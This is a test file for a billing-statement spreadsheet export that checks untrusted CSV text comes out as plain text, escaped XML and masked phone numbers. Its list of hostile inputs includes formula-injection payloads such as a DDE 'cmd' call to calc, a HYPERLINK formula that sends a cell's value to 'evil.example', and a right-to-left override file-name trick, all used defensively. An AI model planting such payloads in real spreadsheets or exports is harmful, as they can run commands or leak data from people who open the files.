import assert from 'node:assert/strict';
import fc from 'fast-check';
import { reconcile } from '../../../../src/core/reconcile/reconcile.js';
import type { Statement } from '../../../../src/core/reconcile/statement.js';
import { MASKED } from '../../../../src/core/report/number-masking.js';
import { statementXlsx, type WorkbookOptions } from '../../../../src/core/report/statement-xlsx.js';
import { cellPieces, columnLetters, xstring } from '../../../../src/core/report/xlsx-text.js';
import { logCsv, usageCsv } from '../../../fixtures/constructed-csv.js';
import { openTable } from '../../formats/open-text.js';
import { hostileText } from '../made-statement.js';
import { columnNumber, joined, partsOf, type ReadSheet, readWorkbook } from './read-workbook.js';

/** Texts that spreadsheets execute, turn into something else, or choke on. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '+SUM(A1:A9)',
  '-2+3+cmd|x',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '<script>alert(1)</script>',
  ']]>',
  '&amp;&#65;',
  '_x0041_ and _x005F_',
  '\u0001\u0008\u000b\u001f',
  '\tx',
  '\ufffe\uffff',
  '\u202egnp.exe',
  "'quoted",
  '1e5',
  '007',
  '12345678901234567890',
  '0.1234567890123456789',
  'TRUE',
  '2025-05-01',
];

/** A usage file whose teams and log whose notes hold the texts, a row each. */
function statementWith(texts: readonly string[]): Statement {
  const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const addColumn = (csv: string, name: string) => {
    const [head, ...rows] = csv.trimEnd().split('\n');
    return [`${head},${quoted(name)}`, ...rows.map((row, at) => `${row},${quoted(texts[at] ?? '')}`)].join('\n');
  };
  const usage = addColumn(usageCsv(texts.length), '=Extra <b>');
  const log = addColumn(logCsv(texts.length), '+Extra');
  return reconcile(openTable(usage, 'usage.csv'), [openTable(log, 'calls.csv', { role: 'call-log' })], {});
}

function workbookOf(statement: Statement, options: Partial<WorkbookOptions> = {}): ReadSheet[] {
  return readWorkbook(joined(statementXlsx(statement, { version: '1', ...options })));
}

/** Cells of the column with a head, from the top. */
function columnOf(sheet: ReadSheet, head: string, rows: number) {
  const found = [...sheet.cells].find(([name, { value }]) => name.endsWith('2') && value === head);
  assert.ok(found, head);
  const letters = found[0].replace(/\d/g, '');
  return Array.from({ length: rows }, (_, row) => sheet.cells.get(`${letters}${row + 3}`));
}

const sheetNamed = (sheets: readonly ReadSheet[], name: string) => sheets.find((one) => one.name === name) as ReadSheet;

describe('the workbook of hostile files', () => {
  it('holds every cell as it is, as text and never as a formula', () => {
    const sheets = workbookOf(statementWith(HOSTILE));
    for (const [name, head] of [
      ['Usage rows', '=Extra <b>'],
      ['Call log rows', '+Extra'],
    ]) {
      const cells = columnOf(sheetNamed(sheets, name), head, HOSTILE.length);
      assert.deepEqual(
        cells.map((cell) => cell?.value),
        HOSTILE,
        name,
      );
      for (const cell of cells) assert.equal(cell?.formula, null);
    }
    const formulas = sheets.flatMap(({ cells }) => Array.from(cells.values(), ({ formula }) => formula ?? ''));
    for (const formula of formulas) assert.doesNotMatch(formula, /cmd|HYPERLINK|evil|http/i);
    const parts = Object.keys(partsOf(joined(statementXlsx(statementWith(HOSTILE), { version: '1' }))));
    assert.deepEqual(
      parts.filter((name) => /externalLink|vba|drawing|media|connections/i.test(name)),
      [],
    );
  });

  it('gives any text back', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 20 }), (texts) => {
        const statement = statementWith(texts);
        const { table } = statement.facts.usageFile;
        const sheet = sheetNamed(workbookOf(statement), 'Usage rows');
        for (let column = 0; column < table.columnCount; column++) {
          const cells = columnOf(sheet, table.header[column], table.rowCount);
          for (let row = 0; row < table.rowCount; row++)
            assert.equal(String(cells[row]?.value ?? ''), table.text(row, column), `${table.header[column]} ${row}`);
        }
      }),
      { numRuns: 30 },
    );
  });

  it('loses nothing of a text that is longer than a cell can be', () => {
    const long = `start ${'0123456789'.repeat(4000)} 😀 ${'é\u0001'.repeat(20_000)} end`;
    const sheets = workbookOf(statementWith(['short', long]));
    const [, cut] = columnOf(sheetNamed(sheets, 'Usage rows'), '=Extra <b>', 2);
    assert.ok(String(cut?.value).length <= 32_767);
    assert.match(String(cut?.value), /… \(all of it is on the sheet “Long texts”\)$/);
    const sheet = sheetNamed(sheets, 'Long texts');
    const parts = new Map<string, string>();
    for (let row = 2; row <= sheet.lastRow; row++) {
      const [place, cell, , text] = ['A', 'B', 'C', 'D'].map((letter) => sheet.cells.get(`${letter}${row}`)?.value);
      assert.ok(String(text).length <= 32_767);
      parts.set(`${place}!${cell}`, (parts.get(`${place}!${cell}`) ?? '') + text);
    }
    assert.equal(parts.size, 2);
    for (const [place, text] of parts) assert.equal(text, long, place);
  });

  it('keeps the further cells of a row that is too long', () => {
    const usage = usageCsv(3).trimEnd().split('\n');
    usage[2] += ',+33199001234,=1+1';
    const file = openTable(usage.join('\n'), 'usage.csv');
    const sheets = workbookOf(reconcile(file, [openTable(logCsv(3), 'calls.csv', { role: 'call-log' })], {}));
    const cells = columnOf(sheetNamed(sheets, 'Usage rows'), 'Further cells of the row', 3);
    assert.deepEqual(
      cells.map((cell) => cell?.value ?? null),
      [null, '+33199001234,=1+1', null],
    );
  });

  it('writes numbers and ids of calls as text, seconds as numbers, and decimals exactly', () => {
    const statement = statementWith(['a', 'b']);
    const sheet = sheetNamed(workbookOf(statement), 'Usage rows');
    for (const head of ['Call id', 'From', 'To'])
      for (const cell of columnOf(sheet, head, 2)) assert.equal(typeof cell?.value, 'string', head);
    for (const cell of columnOf(sheet, 'Billed, s', 2)) assert.equal(typeof cell?.value, 'number');
    assert.match(sheet.xml, /numberStoredAsText="1"/);
  });

  it('has no number of the files in it once masked', () => {
    const statement = statementWith(['call +33 1 99 00 12 34 back', '+33199001235']);
    const numbers = new Set<string>();
    for (const file of [statement.facts.usageFile, ...statement.facts.log.files])
      for (let row = 0; row < file.table.rowCount; row++)
        for (let column = 0; column < file.table.columnCount; column++) {
          const digits = file.table.text(row, column).replace(/[^+\d]/g, '');
          if (/^\+\d{8,15}$/.test(digits)) numbers.add(digits.slice(1));
        }
    assert.ok(numbers.size > 3);
    const all = Object.values(partsOf(joined(statementXlsx(statement, { version: '1', mask: MASKED })))).join('\n');
    for (const number of numbers) assert.ok(!all.includes(number), number);
    assert.ok(!all.includes('99 00 12 34'));
  });
});

describe('texts of a workbook', () => {
  it('are escaped so that reading gives them back, and XML allows all of them', () => {
    fc.assert(
      fc.property(fc.oneof(hostileText, fc.string({ unit: 'binary' }), fc.constantFrom(...HOSTILE)), (text) => {
        const xml = xstring(text);
        // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there.
        assert.doesNotMatch(xml, /[\0-\x08\x0b-\x1f\ufffe\uffff<>]|\p{Cs}/u);
        const read = xml
          .replace(/&(lt|gt|amp|quot);/g, (_, name: 'lt') => ({ lt: '<', gt: '>', amp: '&', quot: '"' })[name])
          .replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
        assert.equal(read, text);
      }),
    );
  });

  it('are cut into pieces that cut no character in two', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme-composite', maxLength: 60 }),
        fc.integer({ min: 2, max: 9 }),
        (text, limit) => {
          const pieces = [...cellPieces(text, limit)];
          assert.equal(pieces.join(''), text);
          for (const piece of pieces) {
            assert.ok(piece.length <= limit && piece.length > 0);
            assert.ok(piece.isWellFormed() || !text.isWellFormed());
          }
        },
      ),
    );
  });

  it('stand in columns that are called as spreadsheets call them', () => {
    assert.deepEqual([0, 25, 26, 701, 702, 16_383].map(columnLetters), ['A', 'Z', 'AA', 'ZZ', 'AAA', 'XFD']);
    for (let column = 0; column < 2000; column++) assert.equal(columnNumber(columnLetters(column)), column + 1);
  });
});
